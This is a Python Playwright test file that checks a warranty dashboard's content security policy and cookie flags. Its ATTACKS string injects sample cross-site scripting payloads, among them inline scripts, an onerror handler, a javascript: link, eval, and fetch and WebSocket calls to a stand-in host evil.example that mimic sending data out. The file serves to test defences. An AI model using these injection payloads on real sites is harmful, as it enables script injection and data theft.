"""What a browser may do on our screens: run our scripts, ask our server, and nothing else (docs/security.md: L8).

That no screen needs more is watched in every browser test (`conftest.forbidden`).
"""

from typing import Final

from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.browser_shop import settled
from tests.browser.conftest import SignIn
from tests.dashboard import Dashboard, leave

ATTACKS: Final = """() => {
  const at = (what) => { window.attacks = [...(window.attacks ?? []), what]; };
  window.at = at;
  window.refusals = 0;
  addEventListener("securitypolicyviolation", () => { window.refusals += 1; });
  const script = document.createElement("script");
  script.textContent = "at('a script in the page')";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "https://evil.example/script.js";
  far.onload = () => at("a script of another host");
  document.body.append(far);
  document.body.insertAdjacentHTML("beforeend", '<img src="/none" onerror="at(\\'a handler in a tag\\')">');
  document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script>parent.at(1)</script>"></iframe>');
  const link = document.createElement("a");
  link.href = "javascript:at('a link')";
  document.body.append(link);
  link.click();
  setTimeout(() => { try { (0, eval)("at('a text as a script')"); } catch { at(""); } });
  fetch("https://evil.example/?what=was-read").then(() => at("asked another host"), () => at(""));
  const far_socket = () => new WebSocket("wss://evil.example/");
  try { far_socket(); } catch { /* refused at once */ }
}"""


def test_what_is_seen_without_a_sign_in_asks_nobody_but_our_server(
    page: Page, dashboard: Dashboard, sign_in: SignIn
) -> None:
    sign_in(page, dashboard, "staff")
    leave(page)
    expect(page.get_by_label("Password", exact=True)).to_be_visible(timeout=20_000)
    page.goto(f"{dashboard.url}/customer")
    expect(page.get_by_role("heading").first).to_be_visible(timeout=20_000)
    page.goto(f"{dashboard.url}/nonsense")
    expect(page.get_by_label("Password", exact=True)).to_be_visible(timeout=20_000)


def test_a_script_that_somebody_gets_into_a_screen_is_not_run(
    page: Page, dashboard: Dashboard, sign_in: SignIn, forbidden: list[str]
) -> None:
    sign_in(page, dashboard, "staff")
    settled(page)
    page.evaluate(ATTACKS)
    page.wait_for_function("() => window.attacks.length >= 2 && window.refusals >= 7")
    assert {each for each in page.evaluate("window.attacks") if each} == set()
    assert forbidden
    forbidden.clear()


def test_no_script_of_a_screen_reads_the_cookie_of_the_sign_in(
    page: Page, context: BrowserContext, dashboard: Dashboard, sign_in: SignIn
) -> None:
    sign_in(page, dashboard, "staff")
    kept = [one for one in context.cookies() if one["name"].startswith("warranty_desk")]
    assert {(one["httpOnly"], one["sameSite"]) for one in kept} == {(True, "Strict")}
    assert "warranty_desk" not in page.evaluate("document.cookie + JSON.stringify({...localStorage})")
